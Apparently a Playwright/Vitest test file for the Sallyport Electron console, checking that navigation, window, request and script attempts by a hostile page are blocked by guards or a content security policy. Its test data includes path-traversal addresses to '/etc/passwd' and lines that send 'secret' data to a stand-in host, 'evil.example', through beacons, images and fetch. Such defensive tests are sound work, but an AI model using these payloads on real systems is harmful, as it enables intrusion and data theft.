import { writeFileSync } from 'node:fs'
import { join } from 'node:path'
import type { Page } from 'playwright-core'
import { beforeEach, describe, expect, test } from 'vitest'
import { newFolder, open, withDesktops } from '../../fixtures/electron/desktop.ts'
import type { StandIn } from '../../fixtures/electron/stand-in.ts'
import { until } from '../../fixtures/until.ts'

withDesktops('TINY')

/** What stopped it: the guard of the main process, the policy of the page (by its directive), or Chromium by itself. */
type StoppedBy = 'guard' | 'window' | 'download' | 'chromium' | `policy ${string}`
type Hostile = [name: string, script: string, stoppedBy: StoppedBy]

const link = (attributes: string): string => `
  document.body.insertAdjacentHTML('beforeend', '<a id="hostile" ${attributes}>here</a>')
  document.getElementById('hostile').click()
  document.getElementById('hostile').remove()`
const element = (html: string): string => `document.body.insertAdjacentHTML('beforeend', '<div>${html}</div>')`
const made = (tag: string, attributes: string): string =>
  `document.head.append(Object.assign(document.createElement('${tag}'), ${attributes}))`
const form = (attributes: string): string => `${element(`<form id="form" ${attributes}><input name="a" value="b"></form>`)}
  document.getElementById('form').submit()
  document.getElementById('form').remove()`

/** Each to an address of its own: of two in a row to the same one Chromium drops the second while the first is not over. */
const navigations: Hostile[] = [
  ['location.href', "location.href = 'https://evil.example/'", 'guard'],
  ['location.assign', "location.assign('https://evil.example/assign')", 'guard'],
  ['location.replace', "location.replace('https://evil.example/replace')", 'guard'],
  ['plain http', "location = 'http://evil.example/'", 'guard'],
  ['top.location', "top.location = 'https://evil.example/?secret'", 'guard'],
  ['this machine', "location = 'http://127.0.0.1:8080/admin/graphql'", 'guard'],
  ['another host of ours', "location = 'app://other/'", 'guard'],
  ['a host that begins like ours', "location = 'app://console.evil/'", 'guard'],
  ['ours as a user name', "location = 'app://console@evil/'", 'guard'],
  ['out of the folder', "location = 'app://console/../../etc/passwd'", 'guard'],
  ['out of the folder, escaped', "location = 'app://console/%2e%2e/%2e%2e/etc/passwd'", 'guard'],
  ['our own page anew', 'location.reload()', 'guard'],
  ['our own page by a request', "location = '/nodes'", 'guard'],
  ['a link of the console itself', "location = 'sallyport://operation/1'", 'guard'],
  ['a mail', "location = 'mailto:someone@evil.example'", 'guard'],
  ['a script as an address', "location = 'javascript:document.title=1'", 'policy script-src-elem'],
  ['data', "location = 'data:text/html,<h1>hostile</h1>'", 'chromium'],
  ['a file', "location = 'file:///etc/passwd'", 'chromium'],
  ['a blob', "location = URL.createObjectURL(new Blob(['<h1>hostile</h1>'], { type: 'text/html' }))", 'guard'],
  ['the empty page', "location = 'about:blank'", 'guard'],
  ['the source of a page', "location = 'view-source:https://evil.example/'", 'chromium'],
  ['a link', link('href="https://evil.example/"'), 'guard'],
  ['a link to the top', link('href="https://evil.example/top" target="_top"'), 'guard'],
  ['meta refresh', made('meta', "{ httpEquiv: 'refresh', content: '0;url=https://evil.example/refresh' }"), 'guard'],
  ['a form that posts', form('method="post" action="https://evil.example/"'), 'policy form-action'],
  ['a form that gets', form('action="https://evil.example/"'), 'policy form-action'],
  ['a form to ourselves', form(''), 'policy form-action'],
]

const windows: Hostile[] = [
  ['window.open', "window.open('https://evil.example/')", 'window'],
  ['window.open without opener', "window.open('https://evil.example/', '_blank', 'noopener')", 'window'],
  ['an empty window', "window.open('')", 'window'],
  ['a window of ours', "window.open('/nodes')", 'window'],
  ['a window of a blob', "window.open(URL.createObjectURL(new Blob(['x'], { type: 'text/html' })))", 'window'],
  ['a link to a new window', link('href="https://evil.example/" target="_blank"'), 'window'],
  ['a link with its opener', link('href="https://evil.example/" target="_blank" rel="opener"'), 'window'],
  ['a frame', element('<iframe src="https://evil.example/"></iframe>'), 'policy frame-src'],
  ['a frame of data', element('<iframe src="data:text/html,x"></iframe>'), 'policy frame-src'],
  ['a frame of ours', element('<iframe src="/"></iframe>'), 'policy frame-src'],
  ['an object', element('<object data="https://evil.example/"></object>'), 'policy object-src'],
  ['a download', link('download="x.html" href="data:text/html,x"'), 'download'],
]

const contents: Hostile[] = [
  ['a request', "fetch('https://evil.example/').catch(() => {})", 'policy connect-src'],
  ['a request to this machine', "fetch('http://127.0.0.1:8080/').catch(() => {})", 'policy connect-src'],
  ['a socket', "try { new WebSocket('wss://evil.example/') } catch {}", 'policy connect-src'],
  ['a stream of events', "new EventSource('https://evil.example/')", 'policy connect-src'],
  ['a beacon', "navigator.sendBeacon('https://evil.example/', 'secret')", 'policy connect-src'],
  ['a picture', "new Image().src = 'https://evil.example/?secret'", 'policy img-src'],
  ['a script of elsewhere', made('script', "{ src: 'https://evil.example/x.js' }"), 'policy script-src-elem'],
  ['a script in the page', made('script', "{ textContent: 'document.title = 1' }"), 'policy script-src-elem'],
  ['a script in an attribute', element('<img src="data:," onerror="document.title=1">'), 'policy script-src-attr'],
  ['text as a script', "setTimeout(() => { try { new Function('document.title = 1')() } catch {} })", 'policy script-src'],
  ['a worker', "try { new Worker(URL.createObjectURL(new Blob(['1']))) } catch {}", 'policy worker-src'],
  ['a service worker', "navigator.serviceWorker.register('/assets/x.js').catch(() => {})", 'policy worker-src'],
  ['a style of elsewhere', made('link', "{ rel: 'stylesheet', href: 'https://evil.example/x.css' }"), 'policy style-src-elem'],
  ['a style in the page', made('style', "{ textContent: '*{color:red}' }"), 'policy style-src-elem'],
  ['another base', made('base', "{ href: 'https://evil.example/' }"), 'policy base-uri'],
]

let desktop: StandIn
let page: Page
let evidence: string[]

const words = { 'refused by the guard': 'guard', 'window refused': 'window', 'download refused': 'download' } as const

async function stopped(script: string): Promise<string> {
  const before = desktop.seen.length
  const told = evidence.length
  await page.evaluate(script)
  return await until(
    `something stops ${script}`,
    () => {
      const refused = desktop.seen.slice(before).flatMap(({ what }) => words[what as keyof typeof words] ?? [])
      return desktop.pages() === 1 && (refused[0] ?? evidence[told])
    },
    { withinMs: 5_000, everyMs: 20 },
  )
}

describe.each([
  ['leads elsewhere', navigations],
  ['opens or embeds', windows],
  ['asks or runs', contents],
])('whatever a hostile page %s is stopped', (_what, hostile) => {
  beforeEach(async () => {
    ;({ desktop, page } = await open())
    evidence = []
    page.on('console', (message) => {
      if (/not allowed to (load local|navigate|launch)/i.test(message.text())) evidence.push('chromium')
    })
    await page.exposeFunction('violated', (directive: string) => evidence.push(`policy ${directive}`))
    await page.evaluate(() => {
      document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) => {
        void (window as unknown as { violated(directive: string): void }).violated(effectiveDirective)
      })
      document.title = 'Sallyport, still here'
    })
  })

  test('each of them, and the window stays where it is', async () => {
    const address = page.url()
    const found: Record<string, string> = {}
    for (const [name, script] of hostile) {
      found[name] = await stopped(script).catch((error: Error) => error.message)
      expect(page.url(), name).toBe(address)
    }
    expect(found).toEqual(Object.fromEntries(hostile.map(([name, , by]) => [name, by])))
    expect(await page.evaluate('document.title')).toBe('Sallyport, still here')
    expect(desktop.pages()).toBe(1)
    expect(desktop.seen.filter(({ what }) => what === 'left')).toEqual([])
    expect(desktop.around.opened).toEqual([])
  })
})

/** A program without any guard, whose page has no policy. */
const unguarded = `
import { app, BrowserWindow, protocol } from 'electron'
app.enableSandbox()
protocol.registerSchemesAsPrivileged([{ scheme: 'app' }])
app.whenReady().then(() => {
  protocol.handle('app', () => new Response('<!doctype html><title>unguarded</title><p>here', { headers: { 'content-type': 'text/html' } }))
  new BrowserWindow({ webPreferences: {
    preload: import.meta.dirname + '/preload.cjs', sandbox: true, contextIsolation: true, nodeIntegration: false, webSecurity: true,
    nodeIntegrationInWorker: false, nodeIntegrationInSubFrames: false, allowRunningInsecureContent: false, experimentalFeatures: false, webviewTag: false,
  } }).loadURL('app://console/')
})`

test('without our guards the stand-in lets a page have its way', async () => {
  const directory = newFolder()
  writeFileSync(join(directory, 'main.mjs'), unguarded)
  writeFileSync(join(directory, 'preload.cjs'), '')
  const all = [...navigations, ...windows, ...contents]
  const left = async (name: string): Promise<string> => {
    const { desktop: bare, page } = await open({ directory })
    await page.evaluate(all.find(([each]) => each === name)?.[1] ?? '').catch(() => {}) // it may be gone by now
    return (await until(`${name} leaves`, () => bare.seen.find(({ what }) => what === 'left'))).what
  }
  const names = ['location.href', 'a link to a new window', 'a request', 'a download']
  expect(await Promise.all(names.map(left))).toEqual(names.map(() => 'left'))
})
